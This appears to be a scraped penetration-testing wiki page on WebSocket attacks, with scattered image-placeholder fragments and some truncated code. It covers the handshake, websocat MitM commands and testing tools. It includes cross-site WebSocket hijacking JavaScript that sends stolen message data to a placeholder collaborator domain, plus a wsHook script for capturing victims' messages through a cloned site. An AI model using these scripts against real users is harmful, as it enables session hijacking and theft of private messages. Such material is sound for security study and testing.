Ask or search…
Comment on pageWebSocket Attacks

What are WebSockets

WebSocket connections are initiated over HTTP and are typically long-lived. Messages can be sent in either direction at any time and are not transactional in nature. The connection will normally stay open and idle until either the client or the server is ready to send a message. WebSockets are particularly useful in situations where low-latency or server-initiated messages are required, such as real-time feeds of financial data.

How are WebSocket connections established?

(Here you will find a summary but a more detailed guide about how a web socket connection is created can be found here). WebSocket connections are normally created using client-side JavaScript like the following:
var ws = new WebSocket("wss://normal-website.com/ws");
The wss protocol establishes a WebSocket over an encrypted TLS connection, while the ws protocol uses an unencrypted connection.
To establish the connection, the browser and server perform a WebSocket handshake over HTTP. The browser issues a WebSocket handshake request like the following:
GET /chat HTTP/1.1
Host: normal-website.com
Sec-WebSocket-Version: 13
Sec-WebSocket-Key: wDqumtseNBJdhkihL6PW7w==
Connection: keep-alive, Upgrade
Cookie: session=KOsEJNuflw4Rd9BDNrVmvwBF9rEijeE2
Upgrade: websocket
If the server accepts the connection, it returns a WebSocket handshake response like the following:
HTTP/1.1 101 Switching Protocols
Connection: Upgrade
Upgrade: websocket
Sec-WebSocket-Accept: 0FFP+2nmNIf/h+4BP36k9uzrYGk=
At this point, the network connection remains open and can be used to send WebSocket messages in either direction.
Several features of the WebSocket handshake messages are worth noting:
  • The Connection and Upgrade headers in the request and response indicate that this is a WebSocket handshake.
  • The Sec-WebSocket-Version request header specifies the WebSocket protocol version that the client wishes to use. This is typically 13.
  • The Sec-WebSocket-Key request header contains a Base64-encoded random value, which should be randomly generated in each handshake request.
  • The Sec-WebSocket-Accept response header contains a hash of the value submitted in the Sec-WebSocket-Key request header, concatenated with a specific string defined in the protocol specification. This is done to prevent misleading responses resulting from misconfigured servers or caching proxies.
The Sec-WebSocket-Key header contains a random value to prevent errors from caching proxies, and is not used for authentication or session handling purposes (It's not a CSRF token).Linux console

You can use websocat to establish a raw connection with a websocket.
websocat --insecure wss:// -v
Or to create a websocat server:
websocat -s #Listen in port 8000

MitM websocket connections

If you find that clients are connected to a HTTP websocket from your current local network you could try an ARP Spoofing Attack to perform a MitM attack between the client and the server. Once the client is trying toconnect to you can then use:
websocat -E --insecure --text ws-listen: wss:// -v

Websockets enumeration

You can use the tool https://github.com/PalindromeLabs/STEWS to discover, fingerprint and search for known vulnerabilities in websockets automatically.

Websocket Debug tools

  • Burp Suite supports MitM websockets communication in a very similar way it does it for regular HTTP communication.
    • The socketsleuth Burp Suite extension will allow you to manage better Websocket communications in Burp by getting the history, setting interception rules, using match and replace rules, using Intruder and AutoRepeater.• WSSiP: Short for "WebSocket/Socket.io Proxy", this tool, written in Node.js, provides a user interface to capture, intercept, send custom messages and view all WebSocket and Socket.IO communications between the client and server.
  • wsrepl is an interactive websocket REPL designed specifically for penetration testing. It provides an interface for observing incoming websocket messages and sending new ones, with an easy-to-use framework for automating this communication.
  • https://websocketking.com/ it's a web to communicate with other webs using websockets.
  • https://hoppscotch.io/realtime/websocket among other types of communications/protocols, it provides a web to communicate with other webs using websockets.

Websocket Lab

In Burp-Suite-Extender-Montoya-Course you have a code to launch a web using websockets and in this post you can find an explanation.

Cross-site WebSocket hijacking (CSWSH)

Also known as cross-origin WebSocket hijacking. It is a Cross-Site Request Forgery (CSRF) on a WebSocket handshake.
It arises when the WebSocket handshake request relies solely on HTTP cookies for session handling and does not contain any CSRF tokens or other unpredictable values. An attacker can create a malicious web page on their own domain which establishes a cross-site WebSocket connection to the vulnerable application. The application will handle the connection in the context of the victim user's session with theapplication.

Simple Attack

Note that when establishing a websocket connection the cookie is sent to the server. The server might be using it to relate each specific user with his websocket session based on the sent cookie.
Then, if for example the websocket server sends back the history of the conversation of a user if a msg with "READY" is sent, then a simple XSS establishing the connection (the cookie will be sent automatically to authorise the victim user) sending "READY" will be able to retrieve the history of the conversation.:
websocket = new WebSocket('wss://your-websocket-URL')
websocket.onopen = start
websocket.onmessage = handleReply
function start(event) {
websocket.send("READY"); //Send the message to retreive confidential information
function handleReply(event) {
//Exfiltrate the confidential information to attackers server
fetch('https://your-collaborator-domain/?'+event.data, {mode: 'no-cors'})
In this blog post https://snyk.io/blog/gitpod-remote-code-execution-vulnerability-websockets/ the attacker managed to execute arbitraryJavascript in a subdomain of the domain where the web socket communication was occurring. Because it was a subdomain, the cookie was being sent, and because the Websocket didn't check the Origin properly, it was possible to communicate with it and steal tokens from it.

Stealing data from user

Copy the web application you want to impersonate (the .html files for example) and inside the script where the websocket communication is occurring add this code:
//This is the script tag to load the websocket hooker
<script src='wsHook.js'></script>
//These are the functions that are gonig to be executed before a message
//is sent by the client or received from the server
//These code must be between some <script> tags or inside a .js file
wsHook.before = function(data, url) {
var xhttp = new XMLHttpRequest();
xhttp.open("GET", "client_msg?m="+data, true);
wsHook.after = function(messageEvent, url, wsObject) {
var xhttp = new XMLHttpRequest();xhttp.open("GET", "server_msg?m="+messageEvent.data, true);
return messageEvent;
Now download the wsHook.js file from https://github.com/skepticfx/wshook and save it inside the folder with the web files. Exposing the web application and making a user connect to it you will be able to steal the sent and received messages via websocket:
sudo python3 -m http.server 80

Race Conditions

Race Conditions in WebSockets are also a thing, check this information to learn more.

Other vulnerabilities

As Web Sockets are a mechanism to send data to server side and client side,depending on how the server and client handles the information, WebSockets can be used to exploit several other vulnerabilities like XSS, SQLi or any other common web vuln using input of s user from a websocket.

WebSocket Smuggling

This vulnerability could allow you to bypass reverse proxies restrictions by making them believe that a websocket communication was stablished (even if it isn't true). This could allow an attacker to access hidden endpoints. For moreinformation check the following page: